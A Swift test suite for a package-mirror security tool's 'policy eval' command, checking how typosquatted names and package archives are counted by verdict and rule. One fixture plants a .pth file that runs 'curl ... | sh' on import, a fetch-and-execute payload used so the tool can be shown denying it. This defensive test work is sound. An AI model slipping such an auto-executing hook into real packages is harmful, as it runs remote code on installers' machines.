import AirlockCore
import AirlockTestSupport
import Foundation
import Testing

/// `airlock policy eval`: labelled names and archive directories decided under stated facts, counted by
/// verdict and deciding rule, with real facts where `--data` knows a project.
@Suite(.timeLimit(.minutes(10))) struct PolicyEvalTests {
    @Test func namesAndArchivesAreCountedByVerdictAndRule() throws {
        let mirror = try MirrorHarness([
            PackageSpec("cleanlib", "1.0"),
            PackageSpec("hooklib", "1.0", extraFiles: ["hooklib-init.pth": "import os; os.system('curl -s http://127.0.0.1:9/x | sh')\n"]),
        ])
        let dir = mirror.dir.path
        try "project,downloads\nrequests,1000000000\nnumpy,500000000\nsmallthing,10\n".write(
            toFile: dir + "/pop.csv", atomically: true, encoding: .utf8)
        try "requests\nnumpy\n".write(toFile: dir + "/popular.txt", atomically: true, encoding: .utf8)
        try "# typos\nreqeusts\nnunpy\nrequests-api\n".write(toFile: dir + "/bad.txt", atomically: true, encoding: .utf8)
        let r = try AirlockCommand.run([
            "policy", "eval", "--popularity", dir + "/pop.csv", "--facts", "mature", "--label", "popular=\(dir)/popular.txt",
            "--label", "bad=\(dir)/bad.txt", "--label", "archives=\(mirror.packages)", "--json",
        ])
        #expect(r.succeeded, "\(r.output)")
        let labels = try #require(
            (try JSONSerialization.jsonObject(with: Data(r.stdout.utf8)) as? [String: Any])?["labels"] as? [String: [String: Any]])
        #expect(labels["popular"]?["approve"] as? Int == 2, "\(labels)")
        let bad = try #require(labels["bad"])
        #expect(bad["total"] as? Int == 3 && bad["approve"] as? Int == 0, "the comment line is skipped, no typo approved: \(bad)")
        #expect((bad["fired"] as? [String: Int])?.keys.allSatisfy { $0.contains("squat") } == true, "\(bad)")
        let archives = try #require(labels["archives"])
        #expect(archives["total"] as? Int == 2 && archives["approve"] as? Int == 1 && archives["deny"] as? Int == 1, "\(archives)")
        #expect((archives["by_rule"] as? [String: Int])?["rule:content:pth_exec"] == 1, "\(archives)")

        // Human-readable: a label named popular lists every verdict that is not approve, with why (under
        // mature facts an imitation goes to review: a project that old is no fresh typosquat).
        let text = try AirlockCommand.run(["policy", "eval", "--facts", "mature", "--label", "popular=\(dir)/bad.txt"])
        #expect(text.stdout.contains("popular: 3 total, 0 approve") && text.stdout.contains("review: reqeusts (rule:typosquat)"), "\(text.stdout)")
        #expect(text.stdout.contains("'reqeusts' imitates 'requests'"), "\(text.stdout)")
    }

    /// With `--data`, a project the catalog knows is decided on its recorded facts (here: mature and
    /// approved), not on the assumed fresh ones; names it does not know still are.
    @Test func dataGivesRealFactsOfKnownProjects() throws {
        let mirror = try MirrorHarness([PackageSpec("oldlib", "1.0")])
        try mirror.backdate(days: 900)
        #expect(try mirror.sync(["oldlib"], extra: ["--policy", PolicySyncTests.defaultPolicy]).succeeded)
        let names = mirror.dir.path + "/names.txt"
        try "oldlib\nnewlib\n".write(toFile: names, atomically: true, encoding: .utf8)
        let assumed = try AirlockCommand.run(["policy", "eval", "--facts", "fresh", "--label", "legitimate=\(names)"])
        #expect(assumed.stdout.contains("legitimate: 2 total, 0 approve"), "\(assumed.stdout)")
        let real = try AirlockCommand.run(["policy", "eval", "--facts", "fresh", "--data", mirror.data, "--label", "legitimate=\(names)"])
        #expect(real.succeeded, "\(real.output)")
        #expect(real.stdout.contains("legitimate: 2 total, 1 approve"), "\(real.stdout)")
        #expect(!real.stdout.contains(": oldlib (") && real.stdout.contains(": newlib ("), "only the unknown name is held: \(real.stdout)")

        if TestCatalog.backend == .sqlite {
            let missing = try AirlockCommand.run(["policy", "eval", "--data", mirror.dir.path + "/nowhere", "--label", "x=\(names)"])
            #expect(!missing.succeeded && missing.stderr.contains("nowhere holds no airlock catalog"), "\(missing.output)")
        }
    }
}
